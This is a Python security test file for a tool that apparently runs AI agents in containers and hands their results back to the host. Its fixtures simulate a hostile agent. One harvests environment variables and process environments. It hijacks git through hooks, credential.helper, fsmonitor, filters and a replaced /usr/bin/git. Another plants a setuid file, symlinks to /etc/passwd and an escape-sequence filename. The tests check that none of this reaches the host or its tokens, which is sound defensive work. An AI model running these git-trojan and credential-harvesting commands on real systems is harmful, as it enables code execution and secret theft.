"""Results of real containers are handed over, whatever an agent left in them (SECURITY-CASES S10, G01, G02; SPEC T10)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.docker.conftest import Lab, environment
from tests.unit.publish.forge_server import PASSWORD, TOKEN, USER, running

pytestmark = pytest.mark.docker

PLANT = """
cat > /tmp/evil <<'END'
#!/bin/bash
{ env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; } >> /tmp/seen
touch MARK
END
chmod +x /tmp/evil
mkdir -p .git/hooks
for hook in pre-push reference-transaction post-index-change pre-commit; do cp /tmp/evil .git/hooks/$hook; done
for name in credential.helper core.sshCommand core.fsmonitor diff.external gpg.program core.editor core.pager alias.push; do
    git config --global $name '!/tmp/evil'
    git config $name '!/tmp/evil'
done
git config filter.evil.clean '/tmp/evil; cat'
git config commit.gpgSign false
echo '* filter=evil diff=evil' > .gitattributes
echo changed > README
git config --unset-all core.fsmonitor
[ -e /usr/bin/git.real ] || mv /usr/bin/git /usr/bin/git.real
printf '#!/bin/bash\\n/tmp/evil; exec /usr/bin/git.real "$@"\\n' > /usr/bin/git
chmod +x /usr/bin/git
"""


def test_nothing_of_a_container_runs_on_the_host_and_no_token_enters_one(lab: Lab) -> None:
    mark = lab.home / "pwned"
    project = lab.project("planted", environment(command=PLANT.replace("MARK", str(mark))))
    served = lab.home / "served"
    (served / "me").mkdir(parents=True)
    lab.git(lab.home, "clone", "-q", "--bare", str(project), str(served / "me" / "app.git"))
    helper = lab.home / "helper"
    helper.write_text(f"#!/bin/sh\n[ $1 = get ] && printf 'username={USER}\\npassword={PASSWORD}\\n'\n")
    helper.chmod(0o700)
    (lab.home / ".gitconfig").write_text(f"[credential]\n\thelper = {helper}\n")
    with running("github", served) as forge:
        variables = {"GH_TOKEN": TOKEN, "GH_HOST": "127.0.0.1"}
        lab.git(project, "remote", "add", "origin", forge.url)
        state = lab.task(project, env=variables)
        assert state["status"] == "ready", state["error"]
        told = lab.json("pr", state["id"], env=variables)
        assert told["url"] == f"{forge.root}/me/app/pulls/12"
        assert lab.run("push", state["id"], "--commits", "--branch", "own", env=variables).returncode == 0
        follow_up = lab.json("follow-up", state["id"], "--wait", "more", env=variables)
        assert lab.json("pr", state["id"], env=variables)["number"] == 12
        assert forge.faults == []
    assert follow_up["status"] in ("ready", "error")
    assert lab.git(served / "me" / "app.git", "show", f"fumehood/{state['id']}:README") == "changed\n"
    assert not mark.exists()
    [kept] = lab.kept(state["id"])
    seen = subprocess.run(["docker", "cp", f"{kept}:/tmp/seen", "-"], check=True, capture_output=True).stdout
    assert b"PATH=" in seen
    assert TOKEN.encode() not in seen
    assert PASSWORD.encode() not in seen
    held = subprocess.run(["docker", "inspect", kept], check=True, capture_output=True).stdout
    assert TOKEN.encode() not in held


def test_files_of_every_kind_arrive_at_the_remote(lab: Lab, tmp_path: Path) -> None:
    work = r"""
head -c 3000 /dev/urandom > data.bin; chmod +x tool.sh; git mv old.txt 'new name.txt'; ln -s README link
printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 9\n' 7 > big.psd
echo '*.psd filter=lfs diff=lfs merge=lfs -text' > .gitattributes
printf '[submodule "sub"]\n\tpath = sub\n\turl = https://example.invalid/sub.git\n' > .gitmodules
git update-index --add --cacheinfo 160000,0123456789012345678901234567890123456789,sub
git -c filter.lfs.clean= add -A . ; git commit -qm mine; git rev-parse HEAD^{tree}
"""
    project = lab.project(
        "kinds", environment(command=work), {"tool.sh": "#!/bin/sh\n", "old.txt": "one\ntwo\nthree\n"}
    )
    bare = tmp_path / "bare.git"
    lab.git(tmp_path, "clone", "-q", "--bare", str(project), str(bare))
    state = lab.task(project)
    tree = lab.output(state["id"], "agent").split()[-1]
    done = lab.run("push", state["id"], "--remote", str(bare), "--branch", "result")
    assert done.returncode == 0, done.stderr
    assert lab.git(bare, "rev-parse", "result^{tree}").strip() == tree
    assert lab.git(bare, "log", "-1", "--format=%an", "result") == "Test\n"


ODD = r"""
mkfifo pipe; ln README hard; cp README suid; chmod 4755 suid; ln -s /etc etc; mkdir d; ln -s ../../../etc/passwd d/up
printf 'x\n' > "$(printf 'a\nb\033]0;title\007')"
"""


def test_only_files_and_links_come_out_and_nothing_lands_outside(lab: Lab) -> None:
    """SECURITY-CASES G06: devices cannot be made, pipes stay, setuid is lost, names are shown escaped."""
    project = lab.project("odd", environment(command=ODD))
    state = lab.task(project)
    shown = lab.run("diff", state["id"], "--stat").stdout
    assert "\x1b" not in shown
    assert len(shown.splitlines()) == 6
    applied = lab.run("apply", state["id"])
    assert applied.returncode == 0, applied.stdout
    assert not (project / "pipe").exists()
    assert (project / "suid").stat().st_mode & 0o7777 == (project / "hard").stat().st_mode & 0o7777 | 0o111
    assert (project / "hard").stat().st_nlink == 1
    assert (project / "etc").is_symlink()
    assert lab.run("export", state["id"], "--bundle", "odd.bundle", cwd=project).returncode == 0
